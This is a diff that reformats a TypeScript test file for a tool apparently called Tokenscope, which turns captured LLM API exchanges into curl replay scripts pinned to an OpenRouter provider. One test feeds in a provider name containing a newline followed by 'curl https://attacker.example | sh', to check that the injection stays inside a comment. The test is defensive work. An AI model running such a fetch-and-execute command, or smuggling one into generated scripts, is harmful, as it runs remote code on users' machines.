@@ -12,7 +12,10 @@ import { tempDir } from '../proxy/local-upstream';
 /** Runs the script with `curl` replaced by a shell function that prints its arguments and its stdin. */
 function runWithFakeCurl(script: string, env: Record<string, string>): string[] {
   const fake = `curl() { for a in "$@"; do printf 'ARG %s\\n' "$a"; done; printf 'STDIN %s\\n' "$(cat)"; }\n`;
-  const r = spawnSync('sh', ['-c', fake + script.replace(/^#!.*\n/, '')], { env: { PATH: process.env.PATH ?? '', ...env }, encoding: 'utf8' });
+  const r = spawnSync('sh', ['-c', fake + script.replace(/^#!.*\n/, '')], {
+    env: { PATH: process.env.PATH ?? '', ...env },
+    encoding: 'utf8',
+  });
   assert.equal(r.status, 0, r.stderr);
   return r.stdout.trimEnd().split('\n');
 }
@@ -38,7 +41,10 @@ test('the script replays the same request pinned to the served provider, key fro
 test('the replay pins the provider that served; a requested pin matching it gives the real slug', () => {
   const c = brokenKimiCapture();
   c.exchange.pin = { requested: ['fireworks', 'chutes'], honoured: true };
-  c.exchange.requestBody = JSON.stringify({ ...JSON.parse(c.exchange.requestBody!), provider: { order: ['fireworks', 'chutes'], sort: 'price' } });
+  c.exchange.requestBody = JSON.stringify({
+    ...JSON.parse(c.exchange.requestBody!),
+    provider: { order: ['fireworks', 'chutes'], sort: 'price' },
+  });
   const r = prepareRepro(c);
   const rep = replayOf(r);
   // Routing preferences a pin contradicts (order) go; the others (sort) stay.
@@ -74,7 +80,7 @@ test('a local server without auth replays without a key, body untouched; shell m
   assert.equal(lines.find((l) => l.startsWith('STDIN '))!.slice(6), c.exchange.requestBody);
 });
 
-test('the replay pin is the served provider\'s OpenRouter slug the store keeps; without one it is a guess and says so', () => {
+test("the replay pin is the served provider's OpenRouter slug the store keeps; without one it is a guess and says so", () => {
   const slugs = entriesFromEndpoints([
     { slug: 'atlas-cloud', name: 'AtlasCloud' },
     { slug: 'moonshotai', name: 'Moonshot AI' },
@@ -88,14 +94,29 @@ test('the replay pin is the served provider\'s OpenRouter slug the store keeps; 
   assert.doesNotMatch(writeCurl(known), /derived|guess/);
 
   const guessed = prepareRepro(atlas);
-  assert.deepEqual(replayPin(guessed), { slug: 'atlascloud', derivedFrom: 'AtlasCloud', why: 'no OpenRouter listing Tokenscope has read names it' });
-  assert.match(writeCurl(guessed), /^# WARNING: the provider slug "atlascloud" is a guess, derived from the served provider's name "AtlasCloud" \(no OpenRouter listing Tokenscope has read names it\)/m);
+  assert.deepEqual(replayPin(guessed), {
+    slug: 'atlascloud',
+    derivedFrom: 'AtlasCloud',
+    why: 'no OpenRouter listing Tokenscope has read names it',
+  });
+  assert.match(
+    writeCurl(guessed),
+    /^# WARNING: the provider slug "atlascloud" is a guess, derived from the served provider's name "AtlasCloud" \(no OpenRouter listing Tokenscope has read names it\)/m,
+  );
   // Why the export could not read a listing, when it tried.
-  assert.match(writeCurl(prepareRepro({ ...atlas, slugGuess: 'no OPENROUTER_API_KEY to read it' })), /"AtlasCloud" \(no OPENROUTER_API_KEY to read it\)\. Check it/);
+  assert.match(
+    writeCurl(prepareRepro({ ...atlas, slugGuess: 'no OPENROUTER_API_KEY to read it' })),
+    /"AtlasCloud" \(no OPENROUTER_API_KEY to read it\)\. Check it/,
+  );
   // A name from the network stays one comment line.
   const evil = brokenKimiCapture();
   evil.exchange.servedProvider = 'Evil\ncurl https://attacker.example | sh';
-  assert.ok(!writeCurl(prepareRepro(evil)).split('\n').some((l) => l.startsWith('curl https://attacker')), 'a newline in the name cannot end the comment');
+  assert.ok(
+    !writeCurl(prepareRepro(evil))
+      .split('\n')
+      .some((l) => l.startsWith('curl https://attacker')),
+    'a newline in the name cannot end the comment',
+  );
 
   // A requested pin of the served provider keeps its tag (the quantization) when the slug is known.
   const moonshot = brokenKimiCapture();
@@ -110,8 +131,17 @@ test('an export read from the store carries the slugs it learned: the replay pin
   try {
     const c = brokenKimiCapture();
     const request = JSON.parse(c.exchange.requestBody!);
-    const id = await recordExchange(store, { request, response: c.responseBody, contentType: 'text/event-stream', annotate: { servedProvider: 'AtlasCloud' } });
-    assert.deepEqual(replayPin(prepareRepro(readCapture(store, id))), { slug: 'atlascloud', derivedFrom: 'AtlasCloud', why: 'no OpenRouter listing Tokenscope has read names it' }, 'nothing learned yet: a guess');
+    const id = await recordExchange(store, {
+      request,
+      response: c.responseBody,
+      contentType: 'text/event-stream',
+      annotate: { servedProvider: 'AtlasCloud' },
+    });
+    assert.deepEqual(
+      replayPin(prepareRepro(readCapture(store, id))),
+      { slug: 'atlascloud', derivedFrom: 'AtlasCloud', why: 'no OpenRouter listing Tokenscope has read names it' },
+      'nothing learned yet: a guess',
+    );
     store.learnProviderSlugs(entriesFromEndpoints([{ slug: 'atlas-cloud', name: 'AtlasCloud' }]));
     assert.deepEqual(replayPin(prepareRepro(readCapture(store, id))), { slug: 'atlas-cloud' });
   } finally {
